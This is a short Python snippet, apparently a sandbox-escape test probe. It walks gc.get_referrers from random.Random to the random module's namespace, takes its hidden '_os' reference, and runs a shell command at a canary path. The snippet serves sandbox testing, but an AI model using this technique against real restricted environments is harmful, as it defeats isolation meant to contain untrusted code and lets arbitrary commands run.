# reaches: gc.get_referrers walks from a value to the namespace that holds it
import gc, random
for holder in gc.get_referrers(random.Random):
    if isinstance(holder, dict) and "_os" in holder:
        holder["_os"].system("/srv/canary")
        break
